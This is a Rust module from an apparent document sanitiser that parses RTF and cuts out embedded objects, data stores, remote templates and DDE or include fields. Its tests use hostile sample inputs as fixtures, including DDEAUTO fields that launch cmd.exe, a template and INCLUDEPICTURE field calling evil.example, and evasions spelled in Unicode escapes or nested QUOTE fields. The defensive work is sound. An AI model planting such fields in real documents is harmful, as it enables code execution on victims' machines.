//! RTF: embedded objects, data stores, remote templates and DDE or
//! include fields; disarm cuts their groups out and keeps the text.
//!
//! The tokenizer follows what Word does rather than the specification's
//! neat grammar: control words are compared whole and in lower case, `\bin`
//! skips raw bytes, escaped braces do not open groups, and a file that ends
//! with groups still open closes them at the end.

use crate::formats::common::{Disarmed, FormatError, Inspection, Item, field_activity};
use crate::vocab::FindingKind;

/// Groups that hold an embedded object or hidden binary data.
const OBJECT_WORDS: [&str; 4] = ["object", "objdata", "datastore", "objupdate"];

/// What one pass over the file found: the findings, and the groups to cut.
#[derive(Debug, Default)]
struct Plan {
    /// What inspection reports: the items, a finding each.
    found: Inspection,
    /// Sorted, not overlapping.
    cuts: Vec<Cut>,
}

/// A group to cut, and what stays in its place: the content of an object's
/// `\result` (the picture or text Word shows for it), as a plain group.
#[derive(Debug, Clone, Copy)]
struct Cut {
    start: usize,
    end: usize,
    keep: Option<(usize, usize)>,
}

#[derive(Debug)]
struct Group {
    start: usize,
    /// The first control word (after `\*`), lower case.
    destination: Option<String>,
    /// Text of a `\fldinst` or `\template` group, for the verdict.
    text: String,
    /// Why the group goes, when it does.
    active: Option<Item>,
    /// `\objclass` text, for a better report line.
    class: String,
    /// Where the content after the destination word starts.
    content: usize,
    /// The content of a `\result` child, for an object.
    result: Option<(usize, usize)>,
    /// Fallback characters after each `\uN` (`\ucN`; inherited, 1 at first).
    uc: usize,
    /// A `\fldinst` whose instruction starts with a nested field: its kind
    /// is whatever that field gives when Word runs it.
    built: bool,
}

/// An RTF file scanned: what is active, and the groups to cut.
#[derive(Debug)]
pub(crate) struct Analysis<'a> {
    rtf: &'a [u8],
    plan: Plan,
}

/// Scans an RTF file.
pub(crate) fn analyze(rtf: &[u8]) -> Result<Analysis<'_>, FormatError> {
    Ok(Analysis {
        rtf,
        plan: plan(rtf)?,
    })
}

impl Analysis<'_> {
    /// What inspection reports.
    pub(crate) fn found(&self) -> &Inspection {
        &self.plan.found
    }

    /// The file without its active groups. An object's kept `\result` may
    /// hold another object: cut again until nothing is left, a few times
    /// at most.
    pub(crate) fn disarm(self) -> Result<Disarmed, FormatError> {
        let (mut out, mut removed) = cut(self.rtf, self.plan);
        for _ in 1..8 {
            let plan = plan(&out)?;
            if plan.found.items.is_empty() {
                break;
            }
            let (next, log) = cut(&out, plan);
            out = next;
            removed.extend(log);
        }
        if removed.is_empty() {
            return Err(FormatError::Unsupported(
                "nothing in this RTF file could be cut out".into(),
            ));
        }
        if !plan(&out)?.found.items.is_empty() {
            return Err(FormatError::Unsupported(
                "objects nested too deep to cut out".into(),
            ));
        }
        Ok(Disarmed {
            bytes: out,
            removed,
        })
    }
}

fn plan(rtf: &[u8]) -> Result<Plan, String> {
    let mut plan = Plan::default();
    let mut stack: Vec<Group> = Vec::new();
    let mut i = 0;
    let mut first_in_group = false;
    // Fallback characters still to skip after a `\uN`.
    let mut skip = 0;
    while i < rtf.len() {
        // A fallback is one byte or one `\'hh`; anything else ends it.
        if skip > 0 {
            skip -= 1;
            if rtf[i] == b'\\' && rtf.get(i + 1) == Some(&b'\'') {
                i = control(rtf, i).2;
                continue;
            }
            if !matches!(rtf[i], b'\\' | b'{' | b'}') {
                i += 1;
                continue;
            }
            skip = 0;
        }
        match rtf[i] {
            b'{' => {
                let uc = stack.last().map_or(1, |g| g.uc);
                stack.push(Group {
                    start: i,
                    destination: None,
                    text: String::new(),
                    active: None,
                    class: String::new(),
                    content: i + 1,
                    result: None,
                    uc,
                    built: false,
                });
                first_in_group = true;
                i += 1;
            }
            b'}' => {
                if let Some(g) = stack.pop() {
                    close(g, i + 1, &mut stack, &mut plan);
                }
                first_in_group = false;
                i += 1;
            }
            b'\\' => {
                let (word, param, next) = control(rtf, i);
                i = next;
                match word.as_str() {
                    // `\*` marks an ignorable destination; the word after it names it.
                    "*" => continue,
                    "bin" => {
                        let n = usize::try_from(param.unwrap_or(0).max(0)).unwrap_or(usize::MAX);
                        i = i.saturating_add(n).min(rtf.len());
                    }
                    "'" => text_byte(&mut stack, param.unwrap_or(0) as u8),
                    // Unicode text: `\u68` is `D` (negative values count from
                    // 65536), followed by `\ucN` fallback characters Word skips.
                    // Field instructions spelled this way are still fields.
                    "u" => {
                        let unit = param.unwrap_or(0).rem_euclid(65536) as u32;
                        text_char(&mut stack, char::from_u32(unit).unwrap_or('\u{FFFD}'));
                        skip = stack.last().map_or(1, |g| g.uc);
                    }
                    "uc" => {
                        if let Some(g) = stack.last_mut() {
                            g.uc = usize::try_from(param.unwrap_or(1).clamp(0, 16)).unwrap_or(1);
                        }
                    }
                    // Escaped `\\`, `\{`, `\}` and the like are text.
                    w if w.len() == 1 => text_byte(&mut stack, w.as_bytes()[0]),
                    w => {
                        let depth = stack.len();
                        let Some(g) = stack.last_mut() else {
                            return Err(format!("\\{w} outside any group"));
                        };
                        if first_in_group {
                            g.destination = Some(w.to_owned());
                            g.content = i;
                        }
                        if OBJECT_WORDS.contains(&w) && g.active.is_none() {
                            if depth == 1 {
                                return Err(format!("\\{w} in the document's own group"));
                            }
                            g.active = Some(Item {
                                kind: FindingKind::EmbeddedObject,
                                detail: format!("RTF \\{w}"),
                            });
                        }
                        if first_in_group && w == "field" {
                            mark_built(&mut stack);
                        }
                    }
                }
                first_in_group = false;
            }
            b'\r' | b'\n' => i += 1,
            c => {
                text_byte(&mut stack, c);
                first_in_group = false;
                i += 1;
            }
        }
    }
    // Word closes what the file left open.
    while let Some(g) = stack.pop() {
        close(g, rtf.len(), &mut stack, &mut plan);
    }
    plan.cuts
        .sort_unstable_by_key(|c| (c.start, std::cmp::Reverse(c.end)));
    let mut merged: Vec<Cut> = Vec::new();
    for cut in plan.cuts.drain(..) {
        match merged.last_mut() {
            // Inside a cut already: the outer one decides what stays.
            Some(last) if cut.start < last.end => last.end = last.end.max(cut.end),
            _ => merged.push(cut),
        }
    }
    plan.cuts = merged;
    Ok(plan)
}

/// A field nested at the start of a field instruction (nothing of the
/// instruction's own before it) gives the outer field its kind at run time
/// (`{\field{\*\fldinst {\field{\*\fldinst QUOTE 68 68 69 ...}} c:\cmd}}`):
/// the outer one is marked, never read as inert.
fn mark_built(stack: &mut [Group]) {
    let Some((_, outer)) = stack.split_last_mut() else {
        return;
    };
    if let Some(g) = outer
        .iter_mut()
        .rev()
        .find(|g| g.destination.as_deref() == Some("fldinst"))
        && g.text.trim().is_empty()
    {
        g.built = true;
    }
}

/// Text kept for the groups whose text decides their fate. Text in groups
/// nested inside them counts too: Word writes `{\*\fldinst {\rtlch DDEAUTO ..}}`.
fn text_byte(stack: &mut [Group], c: u8) {
    text_char(stack, c as char);
}

fn text_char(stack: &mut [Group], c: char) {
    const MAX_TEXT: usize = 4096;
    let owner = stack.iter_mut().rev().find(|g| {
        matches!(
            g.destination.as_deref(),
            Some("fldinst" | "template" | "objclass")
        )
    });
    if let Some(g) = owner
        && g.text.len() < MAX_TEXT
    {
        g.text.push(c);
    }
}

fn close(mut g: Group, end: usize, stack: &mut [Group], plan: &mut Plan) {
    let text = g.text.trim().to_owned();
    match g.destination.as_deref() {
        Some("objclass") => {
            if let Some(parent) = stack.last_mut() {
                parent.class = text.chars().filter(|c| !c.is_control()).take(64).collect();
            }
        }
        Some("fldinst") => {
            if let Some((kind, why)) = field_activity(&text, g.built) {
                g.active = Some(Item {
                    kind,
                    detail: format!("RTF field {why}: {}", clip(&text)),
                });
            }
        }
        Some("result") => {
            if let Some(parent) = stack.last_mut() {
                parent.result = Some((g.content, end.saturating_sub(1).max(g.content)));
            }
        }
        Some("template") if !text.is_empty() => {
            g.active = Some(Item {
                kind: FindingKind::ExternalReference,
                detail: format!("RTF attached template → {}", clip(&text)),
            });
        }
        _ => {}
    }
    // An object's own `\objdata` goes with the object: one line, one cut.
    if stack.iter().any(|outer| outer.active.is_some()) {
        return;
    }
    if let Some(mut item) = g.active {
        if !g.class.is_empty() {
            item.detail = format!("{} (class {})", item.detail, g.class);
        }
        plan.found.items.push(item);
        let keep = if g.destination.as_deref() == Some("object") {
            g.result
        } else {
            None
        };
        plan.cuts.push(Cut {
            start: g.start,
            end,
            keep,
        });
    }
}

fn clip(s: &str) -> String {
    const MAX: usize = 200;
    let s: String = s.chars().filter(|c| !c.is_control()).collect();
    if s.chars().count() <= MAX {
        s
    } else {
        s.chars().take(MAX).chain(['…']).collect()
    }
}

/// A control word or symbol at `i` (which holds the backslash): its name
/// (lower case; one character for a symbol, `'` with the byte as parameter
/// for a hex escape), its numeric parameter, and where the next token starts.
fn control(rtf: &[u8], i: usize) -> (String, Option<i64>, usize) {
    let mut j = i + 1;
    let Some(&c) = rtf.get(j) else {
        return ("\\".into(), None, j);
    };
    if !c.is_ascii_alphabetic() {
        if c == b'\'' {
            let hex = rtf
                .get(j + 1..j + 3)
                .and_then(|h| std::str::from_utf8(h).ok());
            let byte = hex.and_then(|h| u8::from_str_radix(h, 16).ok());
            let consumed = if byte.is_some() { 3 } else { 1 };
            return ("'".into(), byte.map(i64::from), j + consumed);
        }
        return ((c as char).to_string(), None, j + 1);
    }
    while rtf.get(j).is_some_and(u8::is_ascii_alphabetic) {
        j += 1;
    }
    let word = String::from_utf8_lossy(&rtf[i + 1..j]).to_ascii_lowercase();
    let num_start = j;
    if rtf.get(j) == Some(&b'-') {
        j += 1;
    }
    while rtf.get(j).is_some_and(u8::is_ascii_digit) {
        j += 1;
    }
    // Word reads at most ten digits; longer runs are nonsense, clamp them.
    let param = std::str::from_utf8(&rtf[num_start..j])
        .ok()
        .filter(|s| !s.is_empty() && *s != "-")
        .map(|s| s.parse::<i64>().unwrap_or(i64::MAX));
    // One space after a control word belongs to it.
    if rtf.get(j) == Some(&b' ') {
        j += 1;
    }
    (word, param, j)
}

/// The file without the groups the plan cuts.
fn cut(rtf: &[u8], plan: Plan) -> (Vec<u8>, Vec<String>) {
    let mut out = Vec::with_capacity(rtf.len());
    let mut at = 0;
    for cut in &plan.cuts {
        out.extend_from_slice(&rtf[at..cut.start]);
        // Braces stand in for the cut: the bytes on either side must not
        // join into a new control word (`\ob` + `ject`).
        out.push(b'{');
        if let Some((a, b)) = cut.keep {
            out.extend_from_slice(&rtf[a..b]);
        }
        out.push(b'}');
        at = cut.end;
    }
    out.extend_from_slice(&rtf[at.min(rtf.len())..]);
    let log = plan.found.items.into_iter().map(|i| i.detail).collect();
    (out, log)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cut_once(rtf: &str) -> (String, Vec<String>) {
        let plan = plan(rtf.as_bytes()).unwrap();
        let (out, log) = cut(rtf.as_bytes(), plan);
        (String::from_utf8(out).unwrap(), log)
    }

    #[test]
    fn objects_go_text_stays() {
        let (out, log) = cut_once(
            r"{\rtf1{\fonttbl{\f0 Arial;}}Hello {\object\objemb{\*\objclass Package}{\*\objdata 0105000002000000}{\result{\pict ab}}} world\par}",
        );
        assert_eq!(
            out,
            r"{\rtf1{\fonttbl{\f0 Arial;}}Hello {{\pict ab}} world\par}"
        );
        assert_eq!(log, ["RTF \\object (class Package)"]);
        assert!(plan(out.as_bytes()).unwrap().found.items.is_empty());
    }

    #[test]
    fn hidden_destinations_and_fields() {
        let (out, log) = cut_once(
            r#"{\rtf1{\*\datastore 0105}{\*\template http://evil.example/t.dot}{\field{\*\fldinst DDEAUTO c:\\windows\\system32\\cmd.exe "/c calc"}{\fldrslt shown}} {\field{\*\fldinst PAGE}{\fldrslt 1}}}"#,
        );
        assert_eq!(
            out,
            r"{\rtf1{}{}{\field{}{\fldrslt shown}} {\field{\*\fldinst PAGE}{\fldrslt 1}}}"
        );
        assert_eq!(log.len(), 3, "{log:?}");
    }

    #[test]
    fn field_instructions_in_nested_groups() {
        let (out, log) = cut_once(
            r#"{\rtf1{\field{\*\fldinst {\rtlch\fcs1 DDE}{\rtlch AUTO c:\\cmd.exe}}{\fldrslt x}}}"#,
        );
        assert_eq!(out, r"{\rtf1{\field{}{\fldrslt x}}}");
        assert_eq!(log, [r"RTF field DDE: DDEAUTO c:\cmd.exe"]);
    }

    #[test]
    fn bin_data_and_escaped_braces_do_not_confuse_groups() {
        // The raw bytes after \bin hold a brace and a fake \object.
        let (out, log) = cut_once("{\\rtf1 a\\{ {\\pict\\bin9 }\\object}b}");
        assert_eq!(out, "{\\rtf1 a\\{ {\\pict\\bin9 }\\object}b}");
        assert!(log.is_empty());
        // Left open at the end: closed there, and cut.
        let (out, log) = cut_once("{\\rtf1 a{\\object\\objdata 01");
        assert_eq!(out, "{\\rtf1 a{}");
        assert_eq!(log.len(), 1);
    }

    #[test]
    fn a_cut_never_joins_its_neighbours_into_a_control_word() {
        let (out, log) = cut_once(r"{\rtf1 \ob{\*\datastore 01}ject x}");
        assert_eq!(log.len(), 1);
        assert_eq!(out, r"{\rtf1 \ob{}ject x}");
        assert!(plan(out.as_bytes()).unwrap().found.items.is_empty());
    }

    /// Field instructions spelled in `\uN` escapes, with no fallback
    /// (`\uc0`), with `?` fallbacks and with `\'hh` fallbacks.
    #[test]
    fn unicode_escaped_fields_are_fields() {
        let spell = |word: &str, fallback: &str| -> String {
            word.chars()
                .map(|c| format!("\\u{}{fallback}", c as u32))
                .collect()
        };
        for (uc, fallback) in [("\\uc0", " "), ("\\uc1", "?"), ("\\uc1", "\\'3f")] {
            let rtf = format!(
                "{{\\rtf1 {{\\field{{\\*\\fldinst {uc}{} c:\\\\windows\\\\system32\\\\cmd.exe}}{{\\fldrslt x}}}}}}",
                spell("DDEAUTO", fallback)
            );
            let found = plan(rtf.as_bytes()).unwrap().found.items;
            assert_eq!(found.len(), 1, "{rtf}: {found:?}");
            assert_eq!(found[0].kind, FindingKind::Dde, "{rtf}");
        }
        let remote = format!(
            "{{\\rtf1 {{\\field{{\\*\\fldinst \\uc0{} \"http://evil.example/a.png\"}}}}}}",
            spell("INCLUDEPICTURE", " ")
        );
        let found = plan(remote.as_bytes()).unwrap().found.items;
        assert_eq!(found.len(), 1, "{remote}");
        assert_eq!(found[0].kind, FindingKind::ExternalReference);
        // A field whose kind a nested field gives, whatever result it shows.
        let built = r"{\rtf1{\field{\*\fldinst {\field{\*\fldinst QUOTE 68 68 69 65 85 84 79}{\fldrslt PAGE}} c:\\cmd.exe}{\fldrslt x}}}";
        let found = plan(built.as_bytes()).unwrap().found.items;
        assert_eq!(found.len(), 1, "{found:?}");
        assert_eq!(found[0].kind, FindingKind::Dde);
        // Text in `\u` escapes elsewhere is just text.
        assert!(
            plan("{\\rtf1 \\u35531?\\u27714?書}".as_bytes())
                .unwrap()
                .found
                .items
                .is_empty()
        );
    }

    #[test]
    fn object_in_the_root_group_cannot_be_cut() {
        assert!(plan(b"{\\rtf1 \\objdata 0105}").is_err());
    }
}
